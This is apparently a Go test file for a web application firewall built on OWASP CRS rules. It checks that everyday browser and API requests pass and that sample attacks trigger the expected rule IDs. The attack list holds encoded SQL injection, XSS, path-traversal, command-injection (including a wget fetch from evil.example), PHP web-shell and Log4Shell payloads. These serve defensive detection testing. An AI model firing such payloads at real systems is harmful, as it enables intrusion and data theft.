package waf

import (
	"bytes"
	"mime/multipart"
	"testing"
)

// Browser headers as Chrome and Firefox send them.
var (
	chromeHeaders = []string{
		"User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
		"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
		"Accept-Language", "en-US,en;q=0.9,de;q=0.8",
		"Accept-Encoding", "gzip, deflate, br, zstd",
		"Sec-Ch-Ua", `"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"`,
		"Sec-Ch-Ua-Mobile", "?0",
		"Sec-Ch-Ua-Platform", `"Windows"`,
		"Sec-Fetch-Dest", "document",
		"Sec-Fetch-Mode", "navigate",
		"Sec-Fetch-Site", "same-origin",
		"Sec-Fetch-User", "?1",
		"Upgrade-Insecure-Requests", "1",
		"Referer", "https://shop.example.com/products?category=shoes",
		"Cookie", "_ga=GA1.1.1234567890.1700000000; _gid=GA1.2.987654321.1700000000; session=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwiaWF0IjoxNzAwMDAwMDAwfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c; consent=yes",
	}
	firefoxHeaders = []string{
		"User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
		"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
		"Accept-Language", "fr-FR,fr;q=0.8,en-US;q=0.5,en;q=0.3",
		"Accept-Encoding", "gzip, deflate, br",
		"DNT", "1",
		"Connection", "keep-alive",
		"Referer", "https://www.example.org/",
	}
	apiHeaders = []string{
		"User-Agent", "okhttp/4.12.0",
		"Accept", "application/json",
		"Authorization", "Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6ImFiYzEyMyJ9.eyJpc3MiOiJodHRwczovL2F1dGguZXhhbXBsZS5jb20iLCJzdWIiOiJ1c2VyLTQyIiwiYXVkIjoiYXBpIn0.c2lnbmF0dXJl",
		"X-Request-Id", "0f8fad5b-d9cb-469f-a165-70867728950e",
	}
)

func with(h []string, more ...string) []string {
	return append(append([]string(nil), h...), more...)
}

// ordinaryCase is a request a WAF must let through.
type ordinaryCase struct {
	name, method, target, body string
	headers                    []string
}

func ordinaryRequests() []ordinaryCase {
	var mp bytes.Buffer
	mw := multipart.NewWriter(&mp)
	_ = mw.WriteField("title", "Quarterly report")
	fw, _ := mw.CreateFormFile("file", "report-2024-q1.txt")
	_, _ = fw.Write([]byte("Revenue grew 12% over the quarter.\nCosts were flat.\n"))
	_ = mw.Close()
	return []ordinaryCase{
		{"home page, Chrome", "GET", "/", "", chromeHeaders},
		{"product listing", "GET", "/products?category=shoes&size=42&sort=price_asc&page=2", "", chromeHeaders},
		{"search, Firefox", "GET", "/search?q=how+to+bake+sourdough+bread&lang=en", "", firefoxHeaders},
		{"search with quotes", "GET", "/search?q=%22new+york%22+pizza", "", firefoxHeaders},
		{"static asset", "GET", "/static/js/app.3f9c2b1d.js", "", with(chromeHeaders, "Sec-Fetch-Dest", "script")},
		{"image", "GET", "/images/products/shoe-42-blue.webp", "", with(chromeHeaders, "Accept", "image/avif,image/webp,*/*")},
		{"favicon", "GET", "/favicon.ico", "", firefoxHeaders},
		{"UTF-8 path", "GET", "/caf%C3%A9/men%C3%BC?lang=fr", "", firefoxHeaders},
		{"conditional GET", "GET", "/news/2024/05/article-1234.html", "", with(chromeHeaders, "If-None-Match", `W/"5e15153d-120f"`, "If-Modified-Since", "Tue, 07 May 2024 10:00:00 GMT", "Cache-Control", "max-age=0")},
		{"API GET with token", "GET", "/api/v1/users/123/orders?limit=50&offset=100&fields=id,total,status", "", apiHeaders},
		{"HEAD", "HEAD", "/", "", firefoxHeaders},
		{"CORS preflight", "OPTIONS", "/api/v1/orders", "", []string{
			"Origin", "https://app.example.com", "Access-Control-Request-Method", "POST",
			"Access-Control-Request-Headers", "content-type,authorization", "User-Agent", chromeHeaders[1]}},
		{"JSON POST", "POST", "/api/v1/orders",
			`{"customer_id":123,"items":[{"sku":"AB-1234","qty":2},{"sku":"XY-9","qty":1}],"note":"Please leave it at the front door","gift":false,"coupon":null}`,
			with(apiHeaders, "Content-Type", "application/json")},
		{"JSON POST, nested", "POST", "/api/v2/profile",
			`{"user":{"name":"Alice Martin","email":"alice@example.com","address":{"street":"12 Rue de la Paix","city":"Paris","zip":"75002"},"tags":["vip","newsletter"]},"updated_at":"2024-05-07T10:00:00Z"}`,
			with(apiHeaders, "Content-Type", "application/json; charset=utf-8")},
		{"login form", "POST", "/login", "username=alice%40example.com&password=correct+horse+battery+staple&remember=on",
			with(chromeHeaders, "Content-Type", "application/x-www-form-urlencoded", "Origin", "https://shop.example.com")},
		{"comment form", "POST", "/blog/posts/42/comments", "name=Bob&email=bob%40example.org&comment=Great+article%21+I+learned+a+lot+about+Go+and+load+balancing.",
			with(firefoxHeaders, "Content-Type", "application/x-www-form-urlencoded")},
		{"checkout form", "POST", "/checkout", "first_name=Jean&last_name=Dupont&address=5+Avenue+Anatole+France&city=Paris&zip=75007&country=FR&phone=%2B33+1+23+45+67+89",
			with(chromeHeaders, "Content-Type", "application/x-www-form-urlencoded")},
		{"file upload", "POST", "/upload", mp.String(), with(chromeHeaders, "Content-Type", mw.FormDataContentType())},
		{"plain text POST", "POST", "/api/v1/notes", "Buy milk, eggs and bread on the way home.", with(apiHeaders, "Content-Type", "text/plain; charset=utf-8")},
	}
}

// TestOrdinaryRequestsNeverMatch: everyday browser and API requests,
// through a net/http server on loopback, match no set at sensitivity 1,
// with JSON bodies parsed or not.
func TestOrdinaryRequestsNeverMatch(t *testing.T) {
	c := newCompilerT(t)
	refs := refsAt(t, 1, allSetNames()...)
	for _, jsonParsing := range []bool{false, true} {
		srv := serve(t, compileT(t, c, refs, Options{JSONParsing: jsonParsing}))
		for _, tc := range ordinaryRequests() {
			v := do(t, srv, newReq(t, srv, tc.method, tc.target, tc.body, tc.headers...))
			if len(v.Matched) > 0 || v.Head || v.Body || v.Args {
				t.Errorf("%s (JSON parsing %t): matched %v (truncated head %t, body %t, args %t)", tc.name, jsonParsing, v.Matched, v.Head, v.Body, v.Args)
			}
		}
	}
}

// attackCase is a request carrying one attack and the signature it must
// match (CRS rule IDs; the CRS's own regression tests hold more).
type attackCase struct {
	set, method, target, body string
	headers                   []string
	want                      int // a CRS rule ID the set must report
}

// representativeAttacks holds, per set, an attack its sensitivity-1
// signatures catch.
func representativeAttacks() []attackCase {
	form := []string{"Content-Type", "application/x-www-form-urlencoded"}
	return []attackCase{
		{"sqli-v33-stable", "GET", "/item?id=1%27%20or%20%271%27%3D%271", "", nil, 942100},
		{"sqli-v422-stable", "POST", "/login", "user=admin%27--&pass=x", form, 942100},
		{"sqli-v422-stable", "GET", "/item?id=1%20AND%20SLEEP(5)", "", nil, 942160},
		{"xss-v33-stable", "GET", "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "", nil, 941100},
		{"xss-v422-stable", "POST", "/comment", "text=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", form, 941120},
		{"lfi-v33-stable", "GET", "/download?file=..%2F..%2F..%2Fetc%2Fpasswd", "", nil, 930100},
		{"lfi-v422-stable", "GET", "/download?file=/etc/shadow", "", nil, 930120},
		{"rfi-v33-stable", "GET", "/page?inc=http://192.168.1.10/shell.txt", "", nil, 931100},
		{"rce-v33-stable", "GET", "/ping?host=127.0.0.1%3Bcat%20/etc/passwd", "", nil, 932160},
		{"rce-v422-stable", "POST", "/run", "cmd=%7C%7C%20wget%20http%3A%2F%2Fevil.example%2Fx.sh", form, 932235},
		{"methodenforcement-v33-stable", "PROPFIND", "/", "", nil, 911100},
		{"scannerdetection-v33-stable", "GET", "/", "", []string{"User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"}, 913100},
		{"protocolattack-v33-stable", "GET", "/?lang=en%0d%0aSet-Cookie:%20x=1", "", nil, 921160},
		{"sessionfixation-v33-stable", "GET", "/?foo=%3Cscript%3Edocument.cookie%3D%22sessionid%3D1234%3B%20domain%3D.example.com%22%3C%2Fscript%3E", "", nil, 943100},
		{"php-v33-stable", "POST", "/x", "a=%3C%3Fphp%20system(%24_GET%5B%27c%27%5D)%3B%20%3F%3E", form, 933100},
		{"nodejs-v33-stable", "POST", "/x", "a=require(%27child_process%27).exec(%27id%27)", form, 934100},
		{"generic-v422-stable", "GET", "/?a=__proto__%5Bpolluted%5D%3D1", "", nil, 934130},
		{"java-v33-stable", "GET", "/", "", []string{"X-Api-Version", "${jndi:ldap://evil.example/a}"}, 944150},
		{"java-v422-stable", "POST", "/x", "a=java.lang.Runtime.getRuntime().exec(%22id%22)", form, 944100},
		{"json-sqli-canary", "GET", "/api?id=1%27%20OR%20%27%7B%22a%22%3A1%7D%27%3D%27%7B%22a%22%3A1%7D", "", nil, 942550},
	}
}

// TestRepresentativeAttacksMatch: one attack per set, sent through a
// net/http server on loopback, matches its set at sensitivity 1 and
// reports the expected signature in Google's form.
func TestRepresentativeAttacksMatch(t *testing.T) {
	c := newCompilerT(t)
	cases := representativeAttacks()
	var names []string
	for _, a := range cases {
		names = append(names, a.set)
	}
	e := compileT(t, c, refsAt(t, 1, names...), Options{})
	srv := serve(t, e)
	for _, a := range cases {
		def, _ := lookupSet(a.set)
		wantID := def.googleID(a.want)
		v := do(t, srv, newReq(t, srv, a.method, a.target, a.body, a.headers...))
		if !containsString(v.of(a.set), wantID) {
			t.Errorf("%s %s %s: %s reported %v, want %s among them (all: %v)", a.method, a.target, a.body, a.set, v.of(a.set), wantID, v.Matched)
		}
	}
}

// TestPUTIsMethodEnforcement documents a consequence of running CRS as
// it ships: methods beyond GET, HEAD, POST and OPTIONS match
// methodenforcement at sensitivity 1 (CRS's tx.allowed_methods).
func TestPUTIsMethodEnforcement(t *testing.T) {
	c := newCompilerT(t)
	srv := serve(t, compileT(t, c, refsAt(t, 1, "methodenforcement-v33-stable"), Options{}))
	for _, m := range []string{"PUT", "PATCH", "DELETE"} {
		v := do(t, srv, newReq(t, srv, m, "/api/v1/items/7", "", apiHeaders...))
		if got := v.of("methodenforcement-v33-stable"); len(got) != 1 || got[0] != "owasp-crs-v030301-id911100-methodenforcement" {
			t.Errorf("%s: %v", m, v.Matched)
		}
	}
}
